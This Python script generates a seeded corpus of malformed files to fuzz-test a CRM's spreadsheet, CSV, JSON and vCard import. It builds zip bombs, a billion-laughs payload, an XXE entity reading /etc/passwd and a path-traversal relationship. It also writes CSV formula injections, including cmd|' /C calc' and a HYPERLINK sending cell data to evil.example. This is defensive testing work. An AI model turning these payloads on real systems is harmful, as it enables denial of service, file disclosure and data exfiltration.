"""Write a corpus of malformed files that an office might feed the import, on purpose or not.

    python scripts/make_hostile_corpus.py OUT_FOLDER

Truncated and broken workbooks, wrong text encodings, a 10 MB cell, a million empty rows,
formulas, zip bombs, binary noise under every supported extension, JSON of the wrong types and
vCards with garbage. tests/core/test_hostile_files.py makes it in a temporary folder at test
time (nothing binary is committed) and checks the import refuses or reports each file.
Everything is derived from a fixed seed, so a failing file is the same file on every run.
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
LEGACY_XLS = ROOT / "tests" / "data" / "legacy.xls"
SEED = 13
HEADER = ["客户名称", "联系人", "手机", "备注"]
ROWS = [
    ["北京康泰医药有限公司", "张伟", "13812345678", "老客户"],
    ["天津仁和大药房", "赵磊", "13600003333", ""],
]
MILLION = 1_000_000
EXCEL_ROWS = 1_048_576

# -- the parts of a minimal .xlsx -----------------------------------------------------------
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
_SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
PARTS = {
    "[Content_Types].xml": _CONTENT_TYPES,
    "_rels/.rels": _RELS,
    "xl/workbook.xml": _WORKBOOK,
    "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
}
SHEET = "xl/worksheets/sheet1.xml"


def _letters(column: int) -> str:
    name = ""
    while column:
        column, rest = divmod(column - 1, 26)
        name = chr(65 + rest) + name
    return name


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{_escape(value)}</t></is></c>'


def _row(number: int, values: list[str]) -> str:
    cells = "".join(_cell(f"{_letters(i)}{number}", v) for i, v in enumerate(values, 1) if v)
    return f'<row r="{number}">{cells}</row>'


def sheet_xml(rows: list[list[str]] | None = None, extra: str = "", dimension: str = "") -> str:
    rows = [HEADER, *ROWS] if rows is None else rows
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(_row(n, r) for n, r in enumerate(rows, 1))
    return f"{_SHEET_OPEN}{dim}<sheetData>{body}{extra}</sheetData></worksheet>"


def xlsx_bytes(parts: dict[str, str | bytes]) -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)
    return buffer.getvalue()


def good_xlsx(sheet: str | bytes | None = None, **changes: str | bytes | None) -> bytes:
    """A minimal contact book; `changes` replace (or, as None, drop) parts by name."""
    parts: dict[str, str | bytes] = {**PARTS, SHEET: sheet if sheet is not None else sheet_xml()}
    for key, value in changes.items():
        name = {"types": "[Content_Types].xml", "rels": "_rels/.rels"}.get(key, key)
        name = {"workbook": "xl/workbook.xml", "workbook_rels": "xl/_rels/workbook.xml.rels"}.get(
            name, name
        )
        if value is None:
            parts.pop(name, None)
        else:
            parts[name] = value
    return xlsx_bytes(parts)


def openpyxl_book(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# -- a zip written by hand: a deflate stream that repeats one block, lying sizes --------------
def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _bomb_stream(head: bytes, filler: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Deflate of head + filler × times + tail, made by repeating the filler's compressed block
    (a full flush makes each block stand alone), with its true CRC and size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(filler) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(filler, crc)
    crc = zlib.crc32(tail, crc)
    return (
        first + block * times + last,
        crc & 0xFFFFFFFF,
        len(head) + len(filler) * times + len(tail),
    )


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated entries: (name, deflated bytes, crc, declared size)."""
    out, central = bytearray(), bytearray()
    for name, packed, crc, size in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0
        )
        out += encoded + packed
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    start = len(out)
    count = len(entries)
    out += central + struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0
    )
    return bytes(out)


def _plain_entries(parts: dict[str, str]) -> list[tuple[str, bytes, int, int]]:
    return [
        (name, _deflate(text.encode()), zlib.crc32(text.encode()), len(text.encode()))
        for name, text in parts.items()
    ]


def zip_bomb(gigabytes: int, lie: bool = False, filler: bytes = b" ") -> bytes:
    head = (_SHEET_OPEN + "<sheetData>" + _row(1, HEADER)).encode()
    tail = b"</sheetData></worksheet>"
    block = (filler * ((1 << 20) // len(filler) + 1))[: 1 << 20]
    packed, crc, size = _bomb_stream(head, block, gigabytes * 1024, tail)
    declared = 5_000 if lie else size
    return raw_zip([*_plain_entries(PARTS), (SHEET, packed, crc, declared)])


def many_entries_bomb() -> bytes:
    """A thousand 4 MB parts beside a normal sheet: 4 GB in all, none of it a sheet."""
    block = b"\x00" * (4 << 20)
    packed, crc = _deflate(block), zlib.crc32(block)
    extras = [(f"xl/media/image{i}.bin", packed, crc, len(block)) for i in range(1000)]
    sheet = sheet_xml()
    return raw_zip([*_plain_entries({**PARTS, SHEET: sheet}), *extras])


# -- the corpus -------------------------------------------------------------------------------
Maker = Callable[[], bytes]


def _truncated(rng: random.Random) -> Iterator[tuple[str, Maker]]:
    book = openpyxl_book([HEADER, *ROWS])
    for i, cut in enumerate(sorted(rng.sample(range(1, len(book) - 1), 18)) + [4, len(book) - 1]):
        yield f"truncated_{i:02d}.xlsx", lambda cut=cut: book[:cut]
    legacy = LEGACY_XLS.read_bytes() if LEGACY_XLS.exists() else b""
    if legacy:
        for i, cut in enumerate([8, 100, 512, 1024, 2048, 3000, 4096, len(legacy) - 10]):
            yield f"truncated_{i:02d}.xls", lambda cut=cut: legacy[:cut]
        yield "legacy_zeroed_middle.xls", lambda: legacy[:1024] + bytes(1024) + legacy[2048:]
        yield "legacy_bitflips.xls", lambda: _flip(legacy, rng.randrange(1 << 30), 60)
    yield "truncated_xlsx_named_xls.xls", lambda: book[: len(book) // 2]
    yield "xlsx_bitflips.xlsx", lambda: _flip(book, 7, 40)
    yield "xlsx_central_directory_cut.xlsx", lambda: book[:-30]


def _flip(data: bytes, seed: int, count: int) -> bytes:
    rng = random.Random(seed)
    out = bytearray(data)
    for _ in range(count):
        out[rng.randrange(64, len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


BROKEN_SHEETS = {
    "unclosed_tags": _SHEET_OPEN + "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>客户名称",
    "mismatched_tags": _SHEET_OPEN + "<sheetData><row r='1'></c></sheetData></worksheet>",
    "not_xml": "this is not xml at all",
    "empty_part": "",
    "control_chars": _SHEET_OPEN + "<sheetData>\x00\x01\x02</sheetData></worksheet>",
    "bad_entity": sheet_xml(extra=_row(9, ["&nosuch;"]).replace("&amp;", "&")),
    "billion_laughs": (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 9)
        ).replace("&lol0;", "&lol;")
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&lol8;</t></is></c></row>"
        "</sheetData></worksheet>"
    ),
    "external_entity": (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&xxe;</t></is></c></row>"
        "</sheetData></worksheet>"
    ),
    "bad_cell_ref": sheet_xml().replace('r="A2"', 'r="??"'),
    "negative_row": sheet_xml().replace('r="2"', 'r="-5"'),
    "huge_row_number": sheet_xml().replace('r="3"', 'r="99999999999"'),
    "shared_string_missing": sheet_xml(extra='<row r="9"><c r="A9" t="s"><v>42</v></c></row>'),
    "number_not_a_number": sheet_xml(extra='<row r="9"><c r="A9"><v>abc</v></c></row>'),
    "bool_not_a_bool": sheet_xml(extra='<row r="9"><c r="A9" t="b"><v>7</v></c></row>'),
    "date_out_of_range": sheet_xml(extra='<row r="9"><c r="C9" s="1"><v>1e308</v></c></row>'),
    "error_cells": sheet_xml(extra='<row r="9"><c r="A9" t="e"><v>#DIV/0!</v></c></row>'),
    "gbk_declared_utf8": (sheet_xml(rows=[HEADER, ["广州医药", "李四", "13800001111"]])).encode(
        "gbk"
    ),
    "utf16_declared_utf8": sheet_xml().encode("utf-16-le"),
    "deep_nesting": _SHEET_OPEN + "<sheetData>" + "<x>" * 100_000 + "</sheetData></worksheet>",
}


def _broken_xml() -> Iterator[tuple[str, Maker]]:
    for name, sheet in BROKEN_SHEETS.items():
        yield f"broken_sheet_{name}.xlsx", lambda sheet=sheet: good_xlsx(sheet)
    yield "broken_no_workbook.xlsx", lambda: good_xlsx(workbook=None)
    yield "broken_no_sheet_part.xlsx", lambda: good_xlsx(**{SHEET: None})
    yield "broken_no_content_types.xlsx", lambda: good_xlsx(types=None)
    yield "broken_workbook_not_xml.xlsx", lambda: good_xlsx(workbook="<<<")
    yield (
        "broken_rels_point_nowhere.xlsx",
        lambda: good_xlsx(
            workbook_rels=_WORKBOOK_RELS.replace("worksheets/sheet1.xml", "../../../../etc/passwd")
        ),
    )
    yield "broken_rels_not_xml.xlsx", lambda: good_xlsx(workbook_rels="\x00\x01")
    yield (
        "broken_shared_strings.xlsx",
        lambda: good_xlsx(
            sheet_xml(extra='<row r="9"><c r="A9" t="s"><v>0</v></c></row>'),
            **{"xl/sharedStrings.xml": "<sst><si><t>unclosed"},
        ),
    )
    yield "broken_styles.xlsx", lambda: good_xlsx(**{"xl/styles.xml": "<styleSheet><numFmts"})
    yield "broken_empty_zip.xlsx", lambda: xlsx_bytes({})
    yield "broken_zip_of_text.xlsx", lambda: xlsx_bytes({"readme.txt": "hello"})


def _encodings() -> Iterator[tuple[str, Maker]]:
    text = "\n".join(",".join(r) for r in [HEADER, *ROWS, ["广州医药", "李四", "13800001111", ""]])
    yield "enc_gbk_after_utf8_bom.csv", lambda: b"\xef\xbb\xbf" + text.encode("gbk")
    yield "enc_utf16le_no_bom.csv", lambda: text.encode("utf-16-le")
    yield "enc_utf16be_no_bom.csv", lambda: text.encode("utf-16-be")
    yield "enc_utf16_odd_length.csv", lambda: text.encode("utf-16")[:-1]
    yield "enc_utf32.csv", lambda: text.encode("utf-32")
    yield (
        "enc_mixed_utf8_gbk.csv",
        lambda: text.encode("utf-8") + b"\n" + "上海华润,王五,13900002222,".encode("gbk"),
    )
    yield "enc_mixed_utf8_utf16.csv", lambda: text.encode("utf-8") + "\n李四".encode("utf-16-le")
    yield (
        "enc_latin1.csv",
        lambda: "Firma,Name,Handy\nMüller GmbH,Jürgen,13800001111".encode("latin-1"),
    )
    yield (
        "enc_shift_jis.csv",
        lambda: "会社名,氏名,携帯\n株式会社テスト,山田,13800001111".encode("shift_jis"),
    )
    yield "enc_big5.csv", lambda: "客戶名稱,聯絡人,手機\n臺北醫藥,陳大文,13800001111".encode("big5")
    yield "enc_invalid_utf8.csv", lambda: text.encode() + b"\xff\xfe\xfd\x80\x80"
    yield "enc_bom_only.csv", lambda: b"\xef\xbb\xbf"
    yield "enc_utf16_bom_only.csv", lambda: b"\xff\xfe"
    yield "enc_utf16_bom_then_gbk.csv", lambda: b"\xff\xfe" + text.encode("gbk")
    yield "enc_nul_separated.csv", lambda: text.replace(",", "\x00").encode()
    yield "enc_lone_surrogates.csv", lambda: text.encode() + b"\xed\xa0\x80"
    yield (
        "enc_gbk.vcf",
        lambda: (
            "BEGIN:VCARD\nVERSION:3.0\nFN:王五\nTEL;TYPE=CELL:13900002222\nEND:VCARD\n"
        ).encode("gbk"),
    )
    yield (
        "enc_utf16_no_bom.vcf",
        lambda: ("BEGIN:VCARD\nVERSION:3.0\nFN:王五\nTEL:13900002222\nEND:VCARD\n").encode(
            "utf-16-le"
        ),
    )
    yield (
        "enc_gbk_declared_utf8.json",
        lambda: json.dumps(
            {"format": "crm-desktop", "version": 1, "customers": [{"name": "广州医药"}]},
            ensure_ascii=False,
        ).encode("gbk"),
    )
    yield (
        "enc_utf16.json",
        lambda: json.dumps(
            {"format": "crm-desktop", "version": 1, "customers": [{"name": "广州医药"}]},
            ensure_ascii=False,
        ).encode("utf-16"),
    )


def _huge_cells() -> Iterator[tuple[str, Maker]]:
    big = "长" * ((10 << 20) // 3)  # about 10 MB of UTF-8
    yield "huge_cell.csv", lambda: ("客户名称,备注\n北京医药," + big + "\n").encode()
    yield "huge_cell_quoted_unclosed.csv", lambda: ('客户名称,备注\n北京医药,"' + big).encode()
    yield (
        "huge_cell.xlsx",
        lambda: good_xlsx(sheet_xml(rows=[["客户名称", "备注"], ["北京医药", big]])),
    )
    yield (
        "huge_cell.json",
        lambda: json.dumps(
            {
                "format": "crm-desktop",
                "version": 1,
                "customers": [{"name": "北京医药", "notes": big}],
            },
            ensure_ascii=False,
        ).encode(),
    )
    yield (
        "huge_name.json",
        lambda: json.dumps(
            {"format": "crm-desktop", "version": 1, "customers": [{"name": big}]},
            ensure_ascii=False,
        ).encode(),
    )
    yield (
        "huge_note.vcf",
        lambda: ("BEGIN:VCARD\nVERSION:3.0\nFN:王五\nNOTE:" + big + "\nEND:VCARD\n").encode(),
    )
    yield "huge_header.csv", lambda: (big + ",手机\n北京医药,13800001111\n").encode()
    yield "huge_line_no_newline.csv", lambda: b"a," * (5 << 20)


def _empty_rows() -> Iterator[tuple[str, Maker]]:
    yield "million_blank_lines.csv", lambda: "客户名称,手机\n".encode() + b"\n" * MILLION
    yield "million_comma_lines.csv", lambda: "客户名称,手机\n".encode() + b",\n" * MILLION
    yield (
        "million_blank_lines_before_header.csv",
        lambda: b"\r\n" * MILLION + "客户名称,手机\n北京医药,13800001111\n".encode(),
    )
    yield (
        "dimension_claims_full_sheet.xlsx",
        lambda: good_xlsx(sheet_xml(dimension=f"A1:XFD{EXCEL_ROWS}")),
    )
    yield (
        "million_empty_row_elements.xlsx",
        lambda: good_xlsx(
            sheet_xml(
                extra="".join(f'<row r="{n}"/>' for n in range(4, EXCEL_ROWS + 1)),
                dimension=f"A1:D{EXCEL_ROWS}",
            )
        ),
    )
    yield (
        "one_cell_on_the_last_row.xlsx",
        lambda: good_xlsx(sheet_xml(extra=_cell_row(EXCEL_ROWS, "A", "北京医药"))),
    )
    yield (
        "one_cell_in_the_far_corner.xlsx",
        lambda: good_xlsx(sheet_xml(extra=_cell_row(EXCEL_ROWS, "XFD", "x"))),
    )
    yield "one_cell_far_right.xlsx", lambda: good_xlsx(sheet_xml(extra=_cell_row(4, "XFD", "x")))
    yield (
        "one_cell_past_the_last_row.xlsx",
        lambda: good_xlsx(sheet_xml(extra=_cell_row(50_000_000, "C", "x"))),
    )
    yield "column_past_xfd.xlsx", lambda: good_xlsx(sheet_xml(extra=_cell_row(5, "ZZZZ", "x")))


def _cell_row(number: int, column: str, value: str) -> str:
    return f'<row r="{number}">{_cell(f"{column}{number}", value)}</row>'


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1/0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas() -> Iterator[tuple[str, Maker]]:
    rows = [HEADER] + [[f, "张伟", f, f] for f in FORMULAS]
    yield (
        "formulas_as_text.csv",
        lambda: "\n".join(
            ",".join('"' + c.replace('"', '""') + '"' for c in r) for r in rows
        ).encode(),
    )
    yield "formulas_as_text.xlsx", lambda: good_xlsx(sheet_xml(rows=rows))
    yield (
        "formulas_openpyxl.xlsx",
        lambda: openpyxl_book(
            [HEADER, ["=A3", "=B3", "=1/0", "=SUM(A1:A1048576)"], ["=A2", "=A2", "=C2", "x"]]
        ),
    )
    yield (
        "formula_cells_with_cached_values.xlsx",
        lambda: good_xlsx(
            sheet_xml(
                extra='<row r="9"><c r="A9" t="str"><f>CONCAT("北京","医药")</f><v>北京医药</v></c>'
                '<c r="C9"><f>13800001111</f><v>13800001111</v></c></row>'
            )
        ),
    )
    yield (
        "formula_cells_without_values.xlsx",
        lambda: good_xlsx(
            sheet_xml(extra='<row r="9"><c r="A9"><f>WEBSERVICE("http://x")</f></c></row>')
        ),
    )
    yield (
        "formula_shared_ref_loop.xlsx",
        lambda: good_xlsx(
            sheet_xml(
                extra='<row r="9"><c r="A9"><f t="shared" ref="A9:XFD1048576" si="0">A1</f>'
                "</c></row>"
            )
        ),
    )
    yield (
        "formulas.vcf",
        lambda: "".join(
            f"BEGIN:VCARD\nVERSION:3.0\nFN:{f}\nORG:{f}\nTEL:{f}\nEND:VCARD\n" for f in FORMULAS
        ).encode(),
    )
    yield (
        "formulas.json",
        lambda: json.dumps(
            {
                "format": "crm-desktop",
                "version": 1,
                "customers": [
                    {"name": f, "code": f, "notes": f, "contacts": [{"name": f, "mobile": f}]}
                    for f in FORMULAS
                ],
            }
        ).encode(),
    )


def _bombs() -> Iterator[tuple[str, Maker]]:
    yield "zip_bomb_2gb_sheet.xlsx", lambda: zip_bomb(2)
    yield "zip_bomb_lying_sizes.xlsx", lambda: zip_bomb(1, lie=True)
    yield "zip_bomb_rows.xlsx", lambda: zip_bomb(2, filler=b"<row/>")
    yield "zip_bomb_many_parts.xlsx", many_entries_bomb
    yield "zip_bomb_named_xls.xls", lambda: zip_bomb(2)


SUFFIXES = (".xlsx", ".xls", ".csv", ".json", ".vcf")
PREFIXES = {
    "zip": b"PK\x03\x04",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "utf8_bom": b"\xef\xbb\xbf",
    "utf16_bom": b"\xff\xfe",
    "vcard": b"BEGIN:VCARD\r\n",
    "json": b'{"format": "crm-desktop", "version": 1, "customers": [',
    "header": "客户名称,手机\n".encode(),
}


def _noise(rng: random.Random) -> Iterator[tuple[str, Maker]]:
    for suffix in SUFFIXES:
        for size in (1, 7, 100, 4096, 65536, 1 << 20):
            data = rng.randbytes(size)
            yield f"noise_{size}{suffix}", lambda data=data: data
        for label, prefix in PREFIXES.items():
            data = prefix + rng.randbytes(2048)
            yield f"noise_after_{label}{suffix}", lambda data=data: data
        yield f"noise_zeros{suffix}", lambda: bytes(4096)
        yield f"noise_ascii{suffix}", lambda: bytes(rng.randrange(32, 127) for _ in range(4096))


def _customers(*items: object, **top: object) -> Maker:
    return lambda: json.dumps(
        {"format": "crm-desktop", "version": 1, "customers": list(items), **top},
        ensure_ascii=False,
    ).encode()


def _json_wrong_types() -> Iterator[tuple[str, Maker]]:
    ok = {"name": "北京医药"}
    cases: dict[str, Maker] = {
        "top_level_array": lambda: b"[1, 2, 3]",
        "top_level_string": lambda: b'"crm-desktop"',
        "top_level_null": lambda: b"null",
        "top_level_number": lambda: b"1e999",
        "empty_object": lambda: b"{}",
        "format_missing": lambda: json.dumps({"version": 1, "customers": []}).encode(),
        "version_string": lambda: json.dumps(
            {"format": "crm-desktop", "version": "1", "customers": []}
        ).encode(),
        "version_huge": lambda: b'{"format":"crm-desktop","version":1e400,"customers":[]}',
        "customers_object": lambda: json.dumps(
            {"format": "crm-desktop", "version": 1, "customers": {"a": ok}}
        ).encode(),
        "customers_string": lambda: json.dumps(
            {"format": "crm-desktop", "version": 1, "customers": "all"}
        ).encode(),
        "customer_is_list": _customers(["北京医药"], 1, None, "x", True),
        "name_types": _customers({"name": 1}, {"name": True}, {"name": [1]}, {"name": {}}),
        "name_null": _customers({"name": None}, {"name": ""}, {"name": "   "}),
        "strings_for_numbers": _customers(
            {
                "name": "甲",
                "credit": {"limit": "a lot", "payment_days": "thirty"},
                "sales": [{"date": "2026-01-01", "amount": "十万", "quantity": "x"}],
                "wallet_estimate": "big",
            }
        ),
        "numbers_for_strings": _customers(
            {"name": "乙", "code": 12, "phone": 13800001111, "tags": [1, 2], "owner": 3.5}
        ),
        "nulls_everywhere": _customers(
            {
                k: None
                for k in ("name", "code", "kind", "contacts", "sales", "credit", "tags", "plans")
            },
            {"name": "丙", "contacts": [None], "sales": [None], "credit": None, "tags": [None]},
        ),
        "nested_arrays": _customers(
            {"name": "丁", "contacts": [[["张伟"]]], "sales": [[1, [2, [3]]]], "tags": [[["x"]]]}
        ),
        "lists_as_objects": _customers(
            {"name": "戊", "contacts": {"name": "张伟"}, "sales": {"amount": 1}, "tags": "a,b"}
        ),
        "objects_as_lists": _customers({"name": "己", "credit": [1, 2], "evaluation": [3]}),
        "bad_enums": _customers(
            {"name": "庚", "kind": "alien", "channel": 7, "category": ["vip"], "lifecycle": {}}
        ),
        "bad_dates": _customers(
            {
                "name": "辛",
                "sales": [{"date": 20260101, "amount": 1}, {"date": "2026-02-30", "amount": 1}],
                "notes_log": [{"date": "yesterday", "summary": "x"}],
                "contacts": [{"name": "张伟", "birthday": "--13-45"}],
                "licences": [{"kind": "gsp", "number": "1", "expires": True}],
            }
        ),
        "huge_numbers": lambda: (
            '{"format":"crm-desktop","version":1,"customers":[{"name":"壬","credit":{"limit":1'
            + "0" * 5000
            + '},"sales":[{"date":"2026-01-01","amount":1e400,"quantity":-1e-400}]}]}'
        ).encode(),
        "huge_integer": lambda: (
            '{"format":"crm-desktop","version":1,"customers":[{"name":"癸","credit":'
            '{"payment_days":' + "9" * 5000 + "}}]}"
        ).encode(),
        "big_but_valid_numbers": _customers(
            {
                "name": "子",
                "credit": {"limit": 10**30, "payment_days": 10**12},
                "sales": [{"date": "2026-01-01", "amount": 10**25, "quantity": 10**20}],
                "plans": [{"month": "2026-01", "amount": 10**40}],
            }
        ),
        "nan_and_infinity": lambda: (
            '{"format":"crm-desktop","version":1,"customers":[{"name":"丑","credit":'
            '{"limit":NaN},"sales":[{"date":"2026-01-01","amount":Infinity,"cost":-Infinity}]}]}'
        ).encode(),
        "negative_and_zero": _customers(
            {
                "name": "寅",
                "credit": {"limit": -5, "payment_days": -1},
                "plans": [{"month": "2026-13", "amount": -1}, {"month": "x", "amount": 0}],
            }
        ),
        "deep_nesting_arrays": lambda: b"[" * 100_000 + b"]" * 100_000,
        "deep_nesting_objects": lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "deep_nesting_in_customer": lambda: (
            '{"format":"crm-desktop","version":1,"customers":[{"name":"卯","notes":'.encode()
            + b"[" * 50_000
            + b"]" * 50_000
            + b"}]}"
        ),
        "duplicate_keys": lambda: (
            '{"format":"crm-desktop","version":1,"customers":[{"name":"辰","name":null}],'
            '"customers":[{"name":"巳"}]}'
        ).encode(),
        "unknown_keys": _customers({"name": "午", "__proto__": 1, "": 2, "x" * 10000: 3}),
        "trailing_garbage": lambda: _customers(ok)() + b"\x00garbage",
        "truncated": lambda: _customers(ok, ok, ok)()[:-7],
        "comments": lambda: b'{"format":"crm-desktop", // c\n"version":1,"customers":[]}',
        "single_quotes": lambda: b"{'format':'crm-desktop','version':1,'customers':[]}",
        "lone_surrogate_escape": lambda: (
            b'{"format":"crm-desktop","version":1,"customers":[{"name":"\\ud800x"}]}'
        ),
        "nul_in_strings": _customers({"name": "未\x00申", "notes": "\x00" * 100}),
        "control_chars": _customers({"name": "\x1b[31m酉\x07", "contacts": [{"name": "\r\n"}]}),
        "many_empty_customers": lambda: (
            b'{"format":"crm-desktop","version":1,"customers":[' + b"{}," * 200_000 + b"{}]}"
        ),
        "contact_wrong_shapes": _customers(
            {
                "name": "戌",
                "contacts": [
                    {"name": None, "mobile": "abc"},
                    {"name": "张伟", "mobile": 1.38e10, "gender": "x", "left": "maybe"},
                    {"name": ["李"], "role": 5, "birthday_lunar": "yes"},
                ],
            }
        ),
        "records_wrong_shapes": _customers(
            {
                "name": "亥",
                "notes_log": [1, "x", {"date": None}],
                "complaints": [{"received": "2026-01-01", "status": "lost"}, []],
                "payments": [{"date": "2026-01-01", "amount": "x"}, None],
                "licences": ["gsp"],
            }
        ),
        "bool_for_everything": _customers(
            {"name": "甲乙", "active": "no", "code": True, "credit": True, "sales": True}
        ),
    }
    for name, make in cases.items():
        yield f"json_{name}.json", make


def _vcards(rng: random.Random) -> Iterator[tuple[str, Maker]]:
    card = "BEGIN:VCARD\nVERSION:3.0\nFN:王五\nTEL;TYPE=CELL:13900002222\nEND:VCARD\n"
    cases: dict[str, str | bytes] = {
        "no_end": "BEGIN:VCARD\nVERSION:3.0\nFN:王五\nTEL:13900002222\n",
        "end_without_begin": "END:VCARD\nFN:王五\nEND:VCARD\n",
        "nested_begin": "BEGIN:VCARD\nBEGIN:VCARD\nFN:王五\nEND:VCARD\nEND:VCARD\n",
        "garbage_lines": "BEGIN:VCARD\n"
        + "\n".join("@#$%^&*" * 20 for _ in range(50))
        + "\nEND:VCARD\n",
        "unknown_charset": (
            "BEGIN:VCARD\nVERSION:2.1\nFN;CHARSET=NO-SUCH-CHARSET;ENCODING=QUOTED-PRINTABLE:"
            "=E7=8E=8B\nEND:VCARD\n"
        ),
        "empty_charset": "BEGIN:VCARD\nFN;CHARSET=;ENCODING=QUOTED-PRINTABLE:=E7=8E\nEND:VCARD\n",
        "bad_quoted_printable": (
            "BEGIN:VCARD\nVERSION:2.1\nFN;ENCODING=QUOTED-PRINTABLE:=ZZ=E7=8=\n=\n=\nEND:VCARD\n"
        ),
        "qp_soft_break_forever": "BEGIN:VCARD\nNOTE;ENCODING=QUOTED-PRINTABLE:=\n"
        + "x=\n" * 50_000,
        "folded_forever": "BEGIN:VCARD\nNOTE:x\n" + " y\n" * 200_000 + "END:VCARD\n",
        "huge_photo": "BEGIN:VCARD\nFN:王五\nPHOTO;ENCODING=b:"
        + "QUFB" * 500_000
        + "\nEND:VCARD\n",
        "no_colon_lines": "BEGIN:VCARD\nFN\nTEL\nN\nEND:VCARD\n",
        "empty_values": "BEGIN:VCARD\nFN:\nN:\nTEL:\nEMAIL:\nBDAY:\nORG:\nEND:VCARD\n",
        "garbage_values": (
            "BEGIN:VCARD\nFN:王五\nN:;;;;;;;;;;;\nTEL:not a phone\nBDAY:99999-99-99\n"
            "EMAIL:@@@\nGENDER:;;;\nADR:;;;;\nORG:;\nEND:VCARD\n"
        ),
        "params_garbage": (
            'BEGIN:VCARD\nTEL;TYPE="unclosed;X=;;;=:13900002222\nFN:王五\nEND:VCARD\n'
        ),
        "many_nameless_cards": "BEGIN:VCARD\nTEL:13900002222\nEND:VCARD\n" * 10_000,
        "binary_in_middle": card.encode() + rng.randbytes(512) + card.encode(),
        "nul_bytes": card.replace("王五", "王\x00五"),
        "cr_only_lines": card.replace("\n", "\r"),
        "formulas_in_fields": (
            "BEGIN:VCARD\nFN:=cmd|' /C calc'!A0\nORG:@SUM(1)\nTEL:+1+1\nNOTE:-2+3\nEND:VCARD\n"
        ),
        "begin_only": "BEGIN:VCARD",
        "lowercase_and_spaces": "begin:vcard\n  fn : 王五\nend:vcard\n",
        "vcard_in_json_suffix_text": "BEGIN:VCARD\n" + "X" * 1000,
    }
    for name, body in cases.items():
        data = body if isinstance(body, bytes) else body.encode()
        yield f"vcard_{name}.vcf", lambda data=data: data


def makers() -> Iterator[tuple[str, Maker]]:
    rng = random.Random(SEED)
    yield from _truncated(rng)
    yield from _broken_xml()
    yield from _encodings()
    yield from _huge_cells()
    yield from _empty_rows()
